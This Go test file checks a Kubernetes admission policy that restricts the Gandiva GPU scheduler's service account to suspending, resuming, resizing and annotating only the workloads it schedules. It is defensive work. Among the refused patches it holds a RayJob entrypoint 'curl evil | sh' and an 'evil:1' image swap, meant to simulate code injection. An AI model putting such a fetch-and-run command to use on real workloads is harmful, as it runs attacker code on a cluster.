// Package conditions tests, on the local control plane, what Gandiva
// writes on the workload kinds' objects (its status conditions and
// annotations beside their controllers' writes) and the admission policy
// that holds the scheduler's account to those writes (deploy/base/rbac.yaml).
// A package of its own so that these tests run beside internal/kube's.
package conditions

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"
	"sigs.k8s.io/yaml"

	"github.com/gandiva-sched/gandiva/internal/kube"
	"github.com/gandiva-sched/gandiva/internal/kube/cplane"
	"github.com/gandiva-sched/gandiva/internal/kube/kubetest"
	wl "github.com/gandiva-sched/gandiva/internal/kube/workloads"
)

const (
	ns = "team-a"
	// sa is the scheduler's service account, as the API server names it
	sa = "system:serviceaccount:gandiva-system:gandiva"
)

var (
	jobGVR    = schema.GroupVersionResource{Group: "batch", Version: "v1", Resource: "jobs"}
	jobSetGVR = wl.JobSetGVR
	lwsGVR    = wl.LWSGVR
	trainGVR  = wl.TrainJobGVR
	rayGVR    = wl.RayJobGVR
	ptGVR     = schema.GroupVersionResource{Group: "kubeflow.org", Version: "v1", Resource: "pytorchjobs"}
	crdGVR    = wl.CRDGVR
)

// resources maps the kinds of deploy/base/rbac.yaml to their resources.
var resources = map[string]schema.GroupVersionResource{
	"ServiceAccount":                   {Version: "v1", Resource: "serviceaccounts"},
	"ClusterRole":                      {Group: "rbac.authorization.k8s.io", Version: "v1", Resource: "clusterroles"},
	"ClusterRoleBinding":               {Group: "rbac.authorization.k8s.io", Version: "v1", Resource: "clusterrolebindings"},
	"Role":                             {Group: "rbac.authorization.k8s.io", Version: "v1", Resource: "roles"},
	"RoleBinding":                      {Group: "rbac.authorization.k8s.io", Version: "v1", Resource: "rolebindings"},
	"ValidatingAdmissionPolicy":        {Group: "admissionregistration.k8s.io", Version: "v1", Resource: "validatingadmissionpolicies"},
	"ValidatingAdmissionPolicyBinding": {Group: "admissionregistration.k8s.io", Version: "v1", Resource: "validatingadmissionpolicybindings"},
	"CustomResourceDefinition":         crdGVR,
}

// repo is the repository's root.
const repo = "../../.."

// docs reads the YAML documents of a file of the repository.
func docs(t *testing.T, file string) []*unstructured.Unstructured {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(repo, file))
	if err != nil {
		t.Fatal(err)
	}
	var out []*unstructured.Unstructured
	for _, doc := range bytes.Split(data, []byte("\n---")) {
		m := map[string]any{}
		if err := yaml.Unmarshal(doc, &m); err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		if len(m) > 0 {
			out = append(out, &unstructured.Unstructured{Object: m})
		}
	}
	return out
}

// create creates the objects of files (a CRD: once established).
func create(t *testing.T, dc dynamic.Interface, files ...string) {
	t.Helper()
	ctx := context.Background()
	for _, f := range files {
		for _, u := range docs(t, f) {
			r, ok := resources[u.GetKind()]
			if !ok {
				t.Fatalf("%s: kind %s not known to this test", f, u.GetKind())
			}
			var err error
			if u.GetNamespace() != "" {
				_, err = dc.Resource(r).Namespace(u.GetNamespace()).Create(ctx, u, metav1.CreateOptions{})
			} else {
				_, err = dc.Resource(r).Create(ctx, u, metav1.CreateOptions{})
			}
			if err != nil && !apierrors.IsAlreadyExists(err) {
				t.Fatalf("%s: creating %s %s: %v", f, u.GetKind(), u.GetName(), err)
			}
			if u.GetKind() != "CustomResourceDefinition" {
				continue
			}
			kubetest.WaitCRDEstablished(t, dc, u.GetName(), 60*time.Second)
		}
	}
}

// obj is an object from its YAML.
func obj(t *testing.T, s string) *unstructured.Unstructured {
	t.Helper()
	m := map[string]any{}
	if err := yaml.Unmarshal([]byte(s), &m); err != nil {
		t.Fatal(err)
	}
	return &unstructured.Unstructured{Object: m}
}

// containers is a pod spec's schedulerName and containers at indent.
func containers(indent int) string { return podSpec(indent, kube.SchedulerName) }

// podSpec is a pod spec naming scheduler (none: "") at indent.
func podSpec(indent int, scheduler string) string {
	pad := "\n" + strings.Repeat(" ", indent)
	s := ""
	if scheduler != "" {
		s = pad + "schedulerName: " + scheduler
	}
	return s + pad + "restartPolicy: Never" + pad + "containers:" + pad + "- name: main" + pad + "  image: trainer:1"
}

// The workloads the policy test patches: a Job, an elastic Job, a JobSet,
// a LeaderWorkerSet, a TrainJob, a RayJob and a PyTorchJob, suspended
// where they can be.
func workloads(t *testing.T) map[string]*unstructured.Unstructured {
	return map[string]*unstructured.Unstructured{
		"job": obj(t, `apiVersion: batch/v1
kind: Job
metadata: {name: j, namespace: team-a}
spec:
  suspend: true
  parallelism: 2
  completions: 2
  template:
    spec:`+containers(6)),
		"elastic": obj(t, `apiVersion: batch/v1
kind: Job
metadata: {name: e, namespace: team-a, annotations: {gandiva.io/min-gpus: "1", gandiva.io/max-gpus: "4"}}
spec:
  suspend: true
  parallelism: 2
  template:
    spec:`+containers(6)),
		"jobset": obj(t, `apiVersion: jobset.x-k8s.io/v1alpha2
kind: JobSet
metadata: {name: js, namespace: team-a}
spec:
  suspend: true
  replicatedJobs:
  - name: workers
    replicas: 2
    template:
      spec:
        template:
          spec:`+containers(12)),
		"lws": obj(t, `apiVersion: leaderworkerset.x-k8s.io/v1
kind: LeaderWorkerSet
metadata: {name: lws, namespace: team-a}
spec:
  replicas: 1
  leaderWorkerTemplate:
    size: 2
    workerTemplate:
      spec:`+containers(8)),
		"trainjob": obj(t, `apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata: {name: tj, namespace: team-a}
spec:
  suspend: true
  runtimeRef: {name: torch-distributed}
  trainer: {numNodes: 2}`),
		"rayjob": obj(t, `apiVersion: ray.io/v1
kind: RayJob
metadata: {name: rj, namespace: team-a}
spec:
  suspend: true
  entrypoint: python train.py
  shutdownAfterJobFinishes: true
  rayClusterSpec:
    headGroupSpec:
      rayStartParams: {}
      template:
        spec:`+containers(10)),
		"pytorchjob": obj(t, `apiVersion: kubeflow.org/v1
kind: PyTorchJob
metadata: {name: pt, namespace: team-a}
spec:
  runPolicy: {suspend: true, backoffLimit: 3}
  pytorchReplicaSpecs:
    Master:
      replicas: 1
      template:
        spec:`+containers(10)+`
    Worker:
      replicas: 1
      template:
        spec:`+containers(10)),
	}
}

// The workloads of other schedulers (none named, or another) and of mixed
// ones, whose objects the policy keeps out of the scheduler's reach; and
// the kinds' objects it may write that are its own in the less usual
// shapes (a RayJob whose head is another scheduler's, an Indexed elastic
// Job).
func foreignWorkloads(t *testing.T) map[string]*unstructured.Unstructured {
	return map[string]*unstructured.Unstructured{
		"job-other": obj(t, `apiVersion: batch/v1
kind: Job
metadata: {name: j-other, namespace: team-a}
spec:
  suspend: true
  template:
    spec:`+podSpec(6, "")),
		"job-child": obj(t, `apiVersion: batch/v1
kind: Job
metadata:
  name: j-child
  namespace: team-a
  ownerReferences:
  - {apiVersion: jobset.x-k8s.io/v1alpha2, kind: JobSet, name: js, uid: 0b0b0b0b-0000-0000-0000-000000000000, controller: true}
spec:
  suspend: true
  template:
    spec:`+containers(6)),
		"indexed": obj(t, `apiVersion: batch/v1
kind: Job
metadata: {name: ix, namespace: team-a, annotations: {gandiva.io/min-gpus: "1", gandiva.io/max-gpus: "4"}}
spec:
  suspend: true
  completionMode: Indexed
  completions: 2
  parallelism: 2
  template:
    spec:`+containers(6)),
		"jobset-other": obj(t, `apiVersion: jobset.x-k8s.io/v1alpha2
kind: JobSet
metadata: {name: js-other, namespace: team-a}
spec:
  suspend: true
  replicatedJobs:
  - name: workers
    template:
      spec:
        template:
          spec:`+podSpec(12, "default-scheduler")),
		"jobset-mixed": obj(t, `apiVersion: jobset.x-k8s.io/v1alpha2
kind: JobSet
metadata: {name: js-mixed, namespace: team-a}
spec:
  suspend: true
  replicatedJobs:
  - name: workers
    template:
      spec:
        template:
          spec:`+containers(12)+`
  - name: driver
    template:
      spec:
        template:
          spec:`+podSpec(12, "volcano")),
		"lws-other": obj(t, `apiVersion: leaderworkerset.x-k8s.io/v1
kind: LeaderWorkerSet
metadata: {name: lws-other, namespace: team-a}
spec:
  leaderWorkerTemplate:
    size: 2
    workerTemplate:
      spec:`+podSpec(8, "")),
		"lws-mixed": obj(t, `apiVersion: leaderworkerset.x-k8s.io/v1
kind: LeaderWorkerSet
metadata: {name: lws-mixed, namespace: team-a}
spec:
  leaderWorkerTemplate:
    size: 2
    leaderTemplate:
      spec:`+podSpec(8, "default-scheduler")+`
    workerTemplate:
      spec:`+containers(8)),
		"rayjob-other": obj(t, `apiVersion: ray.io/v1
kind: RayJob
metadata: {name: rj-other, namespace: team-a}
spec:
  suspend: true
  entrypoint: python train.py
  rayClusterSpec:
    headGroupSpec:
      rayStartParams: {}
      template:
        spec:`+podSpec(10, "")+`
    workerGroupSpecs:
    - groupName: gpu
      replicas: 1
      rayStartParams: {}
      template:
        spec:`+podSpec(10, "")),
		"rayjob-mixed": obj(t, `apiVersion: ray.io/v1
kind: RayJob
metadata: {name: rj-mixed, namespace: team-a}
spec:
  suspend: true
  entrypoint: python train.py
  rayClusterSpec:
    headGroupSpec:
      rayStartParams: {}
      template:
        spec:`+containers(10)+`
    workerGroupSpecs:
    - groupName: gpu
      replicas: 1
      rayStartParams: {}
      template:
        spec:`+podSpec(10, "kai-scheduler")),
		"rayjob-workers": obj(t, `apiVersion: ray.io/v1
kind: RayJob
metadata: {name: rj-workers, namespace: team-a}
spec:
  suspend: true
  entrypoint: python train.py
  rayClusterSpec:
    headGroupSpec:
      rayStartParams: {}
      template:
        spec:`+podSpec(10, "")+`
    workerGroupSpecs:
    - groupName: idle
      replicas: 0
      rayStartParams: {}
      template:
        spec:`+podSpec(10, "")+`
    - groupName: gpu
      replicas: 2
      rayStartParams: {}
      template:
        spec:`+containers(10)),
		"trainjob-other": obj(t, `apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata: {name: tj-other, namespace: team-a}
spec:
  suspend: true
  runtimeRef: {name: torch-distributed}`),
		"trainjob-stray": obj(t, `apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata: {name: tj-stray, namespace: team-a}
spec:
  suspend: true
  runtimeRef: {name: torch-distributed}`),
		// delegated to MultiKueue: the Trainer makes no JobSet of it here
		// (the test makes one, as someone who may create JobSets could)
		"trainjob-mk": obj(t, `apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata: {name: tj-mk, namespace: team-a}
spec:
  suspend: true
  managedBy: kueue.x-k8s.io/multikueue
  runtimeRef: {name: torch-distributed}`),
		"pytorchjob-other": obj(t, `apiVersion: kubeflow.org/v1
kind: PyTorchJob
metadata: {name: pt-other, namespace: team-a}
spec:
  runPolicy: {suspend: true}
  pytorchReplicaSpecs:
    Master:
      template:
        spec:`+podSpec(10, "")+`
    Worker:
      replicas: 1
      template:
        spec:`+podSpec(10, "default-scheduler")),
		"pytorchjob-mixed": obj(t, `apiVersion: kubeflow.org/v1
kind: PyTorchJob
metadata: {name: pt-mixed, namespace: team-a}
spec:
  runPolicy: {suspend: true}
  pytorchReplicaSpecs:
    Master:
      template:
        spec:`+containers(10)+`
    Worker:
      replicas: 2
      template:
        spec:`+podSpec(10, "volcano")),
		// Gandiva's, with no run policy yet (the scheduler's suspension
		// makes one)
		"pytorchjob-norun": obj(t, `apiVersion: kubeflow.org/v1
kind: PyTorchJob
metadata: {name: pt-norun, namespace: team-a}
spec:
  pytorchReplicaSpecs:
    Worker:
      replicas: 2
      template:
        spec:`+containers(10)),
		// elastic Jobs whose bound is no whole number, or absent
		"elastic-inf": obj(t, `apiVersion: batch/v1
kind: Job
metadata: {name: e-inf, namespace: team-a, annotations: {gandiva.io/min-gpus: "1", gandiva.io/max-gpus: "inf"}}
spec:
  suspend: true
  parallelism: 2
  template:
    spec:`+containers(6)),
		"elastic-min": obj(t, `apiVersion: batch/v1
kind: Job
metadata: {name: e-min, namespace: team-a, annotations: {gandiva.io/min-gpus: "1"}}
spec:
  suspend: true
  parallelism: 2
  template:
    spec:`+containers(6)),
	}
}

// trainJobSet is the JobSet the Trainer would make of TrainJob tj (its
// name, controlled by it), its pods naming scheduler; not controlled by tj
// when stray.
func trainJobSet(t *testing.T, tj *unstructured.Unstructured, scheduler string, stray bool) *unstructured.Unstructured {
	owner := fmt.Sprintf(`
  ownerReferences:
  - {apiVersion: trainer.kubeflow.org/v1alpha1, kind: TrainJob, name: %s, uid: %s, controller: true}`, tj.GetName(), tj.GetUID())
	if stray {
		owner = ""
	}
	return obj(t, `apiVersion: jobset.x-k8s.io/v1alpha2
kind: JobSet
metadata:
  name: `+tj.GetName()+`
  namespace: team-a`+owner+`
spec:
  suspend: true
  replicatedJobs:
  - name: node
    replicas: 2
    template:
      spec:
        template:
          spec:`+podSpec(12, scheduler))
}

// deploy/base/rbac.yaml's policy gandiva-scheduler-workloads against the
// scheduler's account (its ClusterRole's rights: patch of the kinds and
// of their status), with the JobSet, LWS, Trainer, KubeRay and PyTorchJob CRDs
// installed: it may suspend and resume, write gandiva.io/state,
// placement and reason, resize an elastic Job, and write its own status
// conditions; it may not change a JobSet's pod template (while
// suspended), an LWS's leaderWorkerTemplate, a Job's parallelism (not
// elastic), a TrainJob's or RayJob's spec, a PyTorchJob's but its
// spec.runPolicy.suspend, a label, an owner reference,
// another annotation, another status field or condition. It may write only
// the workloads it schedules: a Job, JobSet, LWS or RayJob whose pod
// templates name another scheduler (or none), or several, a Job a JobSet
// controls, a TrainJob whose JobSet names another scheduler or is not its
// own are refused (suspend, annotations, conditions); and an elastic Job's
// width stays from 1 pod to its gandiva.io/max-gpus. Another account (an
// admin here; the controllers are others too) is not held by it.
func TestWorkloadPolicy(t *testing.T) {
	t.Parallel()
	p := kubetest.Start(t, cplane.Options{Users: []cplane.User{
		{Name: sa, Groups: []string{"system:serviceaccounts", "system:serviceaccounts:gandiva-system"}}}})
	cs := kubetest.Client(t, p)
	dc := kubetest.Dynamic(t, p)
	sdc, err := dynamic.NewForConfig(p.UserConfig(sa))
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	kubetest.Namespace(t, cs, "gandiva-system")
	kubetest.Namespace(t, cs, ns)
	create(t, dc,
		"third_party/jobset/config/crd/jobset.x-k8s.io_jobsets.yaml",
		"third_party/lws/config/crd/leaderworkerset.x-k8s.io_leaderworkersets.yaml",
		"third_party/trainer/config/crd/trainer.kubeflow.org_trainjobs.yaml",
		"third_party/kuberay/ray-operator/config/crd/ray.io_rayjobs.yaml",
		"third_party/training-operator/manifests/base/crds/kubeflow.org_pytorchjobs.yaml",
		"deploy/base/rbac.yaml")
	gvr := map[string]schema.GroupVersionResource{"job": jobGVR, "elastic": jobGVR, "jobset": jobSetGVR, "lws": lwsGVR, "trainjob": trainGVR, "rayjob": rayGVR,
		"job-other": jobGVR, "job-child": jobGVR, "indexed": jobGVR, "jobset-other": jobSetGVR, "jobset-mixed": jobSetGVR,
		"lws-other": lwsGVR, "lws-mixed": lwsGVR, "rayjob-other": rayGVR, "rayjob-mixed": rayGVR, "rayjob-workers": rayGVR,
		"trainjob-other": trainGVR, "trainjob-stray": trainGVR, "trainjob-mk": trainGVR, "elastic-inf": jobGVR, "elastic-min": jobGVR,
		"pytorchjob": ptGVR, "pytorchjob-other": ptGVR, "pytorchjob-mixed": ptGVR, "pytorchjob-norun": ptGVR}
	ws := workloads(t)
	for k, u := range foreignWorkloads(t) {
		ws[k] = u
	}
	for k, u := range ws {
		c, err := dc.Resource(gvr[k]).Namespace(ns).Create(ctx, u, metav1.CreateOptions{})
		if err != nil {
			t.Fatalf("creating the %s: %v", k, err)
		}
		ws[k] = c
	}
	// the JobSets the Trainer would make of the TrainJobs: Gandiva's, another
	// scheduler's, and one of Gandiva's of the same name that the TrainJob
	// does not control
	for _, j := range []struct {
		k, scheduler string
		stray        bool
	}{{"trainjob", kube.SchedulerName, false}, {"trainjob-other", "default-scheduler", false}, {"trainjob-stray", kube.SchedulerName, true},
		{"trainjob-mk", kube.SchedulerName, false}} {
		if _, err := dc.Resource(jobSetGVR).Namespace(ns).Create(ctx, trainJobSet(t, ws[j.k], j.scheduler, j.stray), metav1.CreateOptions{}); err != nil {
			t.Fatalf("creating the JobSet of the %s: %v", j.k, err)
		}
	}
	get := func(k string) *unstructured.Unstructured {
		u, err := dc.Resource(gvr[k]).Namespace(ns).Get(ctx, ws[k].GetName(), metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		return u
	}
	dry := metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}}
	patch := func(c dynamic.Interface, k string, pt types.PatchType, body any, sub ...string) error {
		b, err := json.Marshal(body)
		if err != nil {
			t.Fatal(err)
		}
		_, err = c.Resource(gvr[k]).Namespace(ns).Patch(ctx, ws[k].GetName(), pt, b, dry, sub...)
		return err
	}
	const (
		specMsg   = "nothing of a workload's spec"
		metaMsg   = "labels, owners or finalizers"
		annMsg    = "no annotation of a workload"
		statusMsg = "nothing of a workload's status"
		ownMsg    = "only the workloads it schedules"
		trainMsg  = "only the TrainJobs it schedules"
		widthMsg  = "resize an elastic Job only"
		ptRunMsg  = "nothing of a PyTorchJob's spec but spec.runPolicy.suspend"
	)
	ann := func(kv ...string) map[string]any {
		m := map[string]any{}
		for i := 0; i+1 < len(kv); i += 2 {
			m[kv[i]] = kv[i+1]
		}
		return map[string]any{"metadata": map[string]any{"annotations": m}}
	}
	// a JobSet's pod template changed (it is suspended: the JobSet webhook
	// would allow it)
	js := get("jobset")
	rjs, _, _ := unstructured.NestedSlice(js.Object, "spec", "replicatedJobs")
	pod := rjs[0].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)
	pod["containers"] = []any{map[string]any{"name": "main", "image": "evil:1"}}
	templ := map[string]any{"spec": map[string]any{"replicatedJobs": rjs}}
	ourCond := func(extra ...map[string]any) map[string]any {
		conds := []any{map[string]any{"type": kube.CondScheduling, "status": "True", "reason": "Running", "message": "running on gpu-0=2",
			"lastTransitionTime": "2026-01-02T03:04:05Z"}}
		for _, e := range extra {
			conds = append(conds, e)
		}
		return map[string]any{"status": map[string]any{"conditions": conds}}
	}
	foreign := map[string]any{"type": "Complete", "status": "True", "reason": "Done", "message": "faked", "lastTransitionTime": "2026-01-02T03:04:05Z"}
	refused := []struct {
		what, kind, want string
		pt               types.PatchType
		body             any
		sub              []string
	}{
		{"a JobSet's pod template while suspended", "jobset", specMsg, types.MergePatchType, templ, nil},
		{"an LWS's leaderWorkerTemplate", "lws", specMsg, types.MergePatchType, map[string]any{"spec": map[string]any{"leaderWorkerTemplate": map[string]any{"size": 3}}}, nil},
		{"a Job's parallelism (not elastic)", "job", specMsg, types.MergePatchType, map[string]any{"spec": map[string]any{"parallelism": 3}}, nil},
		// (its image is immutable; a suspended Job's scheduling fields are not)
		{"a suspended Job's pod template (node selector)", "job", specMsg, types.MergePatchType, map[string]any{"spec": map[string]any{"template": map[string]any{
			"spec": map[string]any{"nodeSelector": map[string]any{"pool": "other-team"}}}}}, nil},
		{"a TrainJob's numNodes", "trainjob", specMsg, types.MergePatchType, map[string]any{"spec": map[string]any{"trainer": map[string]any{"numNodes": 4}}}, nil},
		{"a RayJob's entrypoint", "rayjob", specMsg, types.MergePatchType, map[string]any{"spec": map[string]any{"entrypoint": "curl evil | sh"}}, nil},
		{"a PyTorchJob's runPolicy.backoffLimit", "pytorchjob", ptRunMsg, types.MergePatchType, map[string]any{"spec": map[string]any{
			"runPolicy": map[string]any{"suspend": false, "backoffLimit": 100}}}, nil},
		{"a PyTorchJob's runPolicy.backoffLimit removed", "pytorchjob", ptRunMsg, types.MergePatchType, map[string]any{"spec": map[string]any{
			"runPolicy": map[string]any{"backoffLimit": nil}}}, nil},
		{"a run policy added to a PyTorchJob beside its suspension", "pytorchjob-norun", ptRunMsg, types.MergePatchType, map[string]any{"spec": map[string]any{
			"runPolicy": map[string]any{"suspend": true, "activeDeadlineSeconds": 1}}}, nil},
		{"a PyTorchJob's Worker replicas", "pytorchjob", specMsg, types.MergePatchType, map[string]any{"spec": map[string]any{
			"pytorchReplicaSpecs": map[string]any{"Worker": map[string]any{"replicas": 4}}}}, nil},
		{"a foreign condition on a PyTorchJob's status", "pytorchjob", statusMsg, types.MergePatchType, ourCond(foreign), []string{"status"}},
		{"a Job's label", "job", metaMsg, types.MergePatchType, map[string]any{"metadata": map[string]any{"labels": map[string]any{"x": "y"}}}, nil},
		{"a JobSet's owner reference", "jobset", metaMsg, types.MergePatchType, map[string]any{"metadata": map[string]any{"ownerReferences": []any{
			map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "0a0a0a0a-0000-0000-0000-000000000000"}}}}, nil},
		{"a Job's finalizer", "job", metaMsg, types.MergePatchType, map[string]any{"metadata": map[string]any{"finalizers": []any{"x.io/hold"}}}, nil},
		{"another annotation of a Job", "job", annMsg, types.MergePatchType, ann("gandiva.io/preemptible", "false"), nil},
		{"a checkpoint annotation of an LWS", "lws", annMsg, types.MergePatchType, ann("gandiva.io/checkpoint-time", "2026-01-02T03:04:05Z"), nil},
		{"another annotation through a Job's status", "job", annMsg, types.StrategicMergePatchType, ann("user", "x"), []string{"status"}},
		// (a Job's Complete would be refused by its validation first)
		{"a foreign condition on a Job's status", "job", statusMsg, types.StrategicMergePatchType, ourCond(map[string]any{"type": "ExternalHold", "status": "True",
			"reason": "X", "message": "faked", "lastTransitionTime": "2026-01-02T03:04:05Z"}), []string{"status"}},
		{"a foreign condition on a JobSet's status", "jobset", statusMsg, types.MergePatchType, ourCond(foreign), []string{"status"}},
		{"another status field of a JobSet", "jobset", statusMsg, types.MergePatchType, map[string]any{"status": map[string]any{"restarts": 3}}, []string{"status"}},
		{"another status field of a TrainJob", "trainjob", statusMsg, types.MergePatchType, map[string]any{"status": map[string]any{
			"jobsStatus": []any{map[string]any{"name": "x", "ready": 1, "succeeded": 0, "failed": 0, "active": 1, "suspended": 0}}}}, []string{"status"}},
	}
	resume := map[string]any{"spec": map[string]any{"suspend": false}}
	ptResume := map[string]any{"spec": map[string]any{"runPolicy": map[string]any{"suspend": false}}}
	// the template of another scheduler's JobSet, made Gandiva's in the
	// write (the old object is looked at too)
	jso := get("jobset-other")
	rjo, _, _ := unstructured.NestedSlice(jso.Object, "spec", "replicatedJobs")
	rjo[0].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["schedulerName"] = kube.SchedulerName
	flip := map[string]any{"spec": map[string]any{"replicatedJobs": rjo}}
	resize := func(n int, indexed bool) map[string]any {
		spec := map[string]any{"suspend": false, "parallelism": n}
		if indexed {
			spec["completions"] = n
		}
		return map[string]any{"spec": spec}
	}
	refused = append(refused, []struct {
		what, kind, want string
		pt               types.PatchType
		body             any
		sub              []string
	}{
		{"resuming a Job that names no scheduler", "job-other", ownMsg, types.MergePatchType, resume, nil},
		{"Gandiva's annotations on a Job that names no scheduler", "job-other", ownMsg, types.MergePatchType, ann(kube.AnnState, "running"), nil},
		{"Gandiva's condition on the status of a Job that names no scheduler", "job-other", ownMsg, types.StrategicMergePatchType, ourCond(), []string{"status"}},
		{"resuming a Job a JobSet controls", "job-child", ownMsg, types.MergePatchType, resume, nil},
		{"resuming a JobSet of another scheduler", "jobset-other", ownMsg, types.MergePatchType, resume, nil},
		{"a JobSet of another scheduler's template made Gandiva's", "jobset-other", ownMsg, types.MergePatchType, flip, nil},
		{"resuming a JobSet that mixes schedulers", "jobset-mixed", ownMsg, types.MergePatchType, resume, nil},
		{"Gandiva's condition on a mixed JobSet's status", "jobset-mixed", ownMsg, types.MergePatchType, ourCond(), []string{"status"}},
		{"Gandiva's annotations on an LWS that names no scheduler", "lws-other", ownMsg, types.MergePatchType, ann(kube.AnnState, "running"), nil},
		{"Gandiva's condition on the status of an LWS that names no scheduler", "lws-other", ownMsg, types.MergePatchType, ourCond(), []string{"status"}},
		{"Gandiva's annotations on an LWS whose leader is another scheduler's", "lws-mixed", ownMsg, types.MergePatchType, ann(kube.AnnState, "running"), nil},
		{"resuming a RayJob that names no scheduler", "rayjob-other", ownMsg, types.MergePatchType, resume, nil},
		{"resuming a RayJob whose GPU workers are another scheduler's", "rayjob-mixed", ownMsg, types.MergePatchType, resume, nil},
		{"resuming a TrainJob whose JobSet is another scheduler's", "trainjob-other", trainMsg, types.MergePatchType, resume, nil},
		{"Gandiva's condition on such a TrainJob's status", "trainjob-other", trainMsg, types.MergePatchType, ourCond(), []string{"status"}},
		{"resuming a TrainJob whose JobSet of its name it does not control", "trainjob-stray", trainMsg, types.MergePatchType, resume, nil},
		{"an elastic Job over its gandiva.io/max-gpus", "elastic", widthMsg, types.MergePatchType, resize(5, false), nil},
		{"an elastic Job of no pods", "elastic", widthMsg, types.MergePatchType, resize(0, false), nil},
		{"an Indexed elastic Job over its gandiva.io/max-gpus", "indexed", widthMsg, types.MergePatchType, resize(8, true), nil},
		{"an elastic Job whose gandiva.io/max-gpus is inf", "elastic-inf", widthMsg, types.MergePatchType, resize(5, false), nil},
		{"an elastic Job with no gandiva.io/max-gpus over 1048576 pods", "elastic-min", widthMsg, types.MergePatchType, resize(2000000, false), nil},
		{"resuming a PyTorchJob that names no scheduler", "pytorchjob-other", ownMsg, types.MergePatchType, ptResume, nil},
		{"Gandiva's condition on the status of a PyTorchJob of another scheduler", "pytorchjob-other", ownMsg, types.MergePatchType, ourCond(), []string{"status"}},
		{"resuming a PyTorchJob that mixes schedulers", "pytorchjob-mixed", ownMsg, types.MergePatchType, ptResume, nil},
		{"resuming a TrainJob delegated to MultiKueue", "trainjob-mk", "the Trainer's own controller manages", types.MergePatchType, resume, nil},
	}...)
	for _, c := range refused {
		kubetest.Eventually(t, 60*time.Second, c.what+" refused saying "+c.want, func() (bool, error) {
			err := patch(sdc, c.kind, c.pt, c.body, c.sub...)
			if err == nil {
				return false, fmt.Errorf("%s was allowed", c.what)
			}
			return strings.Contains(err.Error(), c.want), err
		})
	}
	gandiva := func(state string) map[string]any {
		return map[string]any{kube.AnnState: state, kube.AnnPlacement: "gpu-0=2", kube.AnnReason: "Running: running on gpu-0=2 (policy p)"}
	}
	allowed := []struct {
		what, kind string
		pt         types.PatchType
		body       any
		sub        []string
	}{
		{"resuming a Job, with Gandiva's annotations", "job", types.MergePatchType,
			map[string]any{"metadata": map[string]any{"annotations": gandiva("running")}, "spec": map[string]any{"suspend": false}}, nil},
		{"resizing an elastic Job", "elastic", types.MergePatchType,
			map[string]any{"metadata": map[string]any{"annotations": gandiva("running")}, "spec": map[string]any{"suspend": false, "parallelism": 4}}, nil},
		{"resuming a JobSet", "jobset", types.MergePatchType,
			map[string]any{"metadata": map[string]any{"annotations": gandiva("running")}, "spec": map[string]any{"suspend": false}}, nil},
		{"resuming a TrainJob", "trainjob", types.MergePatchType, map[string]any{"spec": map[string]any{"suspend": false}}, nil},
		{"resuming a RayJob", "rayjob", types.MergePatchType,
			map[string]any{"metadata": map[string]any{"annotations": gandiva("running")}, "spec": map[string]any{"suspend": false}}, nil},
		{"resuming a PyTorchJob, with Gandiva's annotations", "pytorchjob", types.MergePatchType,
			map[string]any{"metadata": map[string]any{"annotations": gandiva("running")}, "spec": ptResume["spec"]}, nil},
		{"suspending a PyTorchJob that had no run policy", "pytorchjob-norun", types.MergePatchType,
			map[string]any{"spec": map[string]any{"runPolicy": map[string]any{"suspend": true}}}, nil},
		{"a PyTorchJob's status: Gandiva's condition", "pytorchjob", types.MergePatchType, ourCond(), []string{"status"}},
		{"an LWS's annotations", "lws", types.MergePatchType, map[string]any{"metadata": map[string]any{"annotations": gandiva("running")}}, nil},
		{"removing a Job's placement", "job", types.MergePatchType, map[string]any{"metadata": map[string]any{"annotations": map[string]any{kube.AnnPlacement: nil}}}, nil},
		{"a Job's status: Gandiva's condition and reason", "job", types.StrategicMergePatchType,
			map[string]any{"metadata": map[string]any{"annotations": map[string]any{kube.AnnReason: "Waiting: queued"}},
				"status": ourCond()["status"]}, []string{"status"}},
		{"a JobSet's status: Gandiva's condition", "jobset", types.MergePatchType, ourCond(), []string{"status"}},
		{"an LWS's status: Gandiva's condition", "lws", types.MergePatchType, ourCond(), []string{"status"}},
		{"a TrainJob's status: Gandiva's condition", "trainjob", types.MergePatchType, ourCond(), []string{"status"}},
		{"resuming a RayJob whose GPU workers name Gandiva (its head another scheduler)", "rayjob-workers", types.MergePatchType, resume, nil},
		{"resizing an elastic Job to its gandiva.io/max-gpus", "elastic", types.MergePatchType, resize(4, false), nil},
		{"resizing an Indexed elastic Job, its completions with it", "indexed", types.MergePatchType, resize(3, true), nil},
		{"resizing an elastic Job with no gandiva.io/max-gpus", "elastic-min", types.MergePatchType, resize(8, false), nil},
	}
	for _, c := range allowed {
		kubetest.Eventually(t, 60*time.Second, c.what+" allowed", func() (bool, error) {
			err := patch(sdc, c.kind, c.pt, c.body, c.sub...)
			return err == nil, err
		})
	}
	// another account is not held: an admin changes the JobSet's template
	if err := patch(dc, "jobset", types.MergePatchType, templ); err != nil {
		t.Fatalf("an admin's change of the JobSet's template: %v", err)
	}
	// nor of another scheduler's workloads
	if err := patch(dc, "job-other", types.MergePatchType, resume); err != nil {
		t.Fatalf("an admin's resumption of a Job that names no scheduler: %v", err)
	}
}
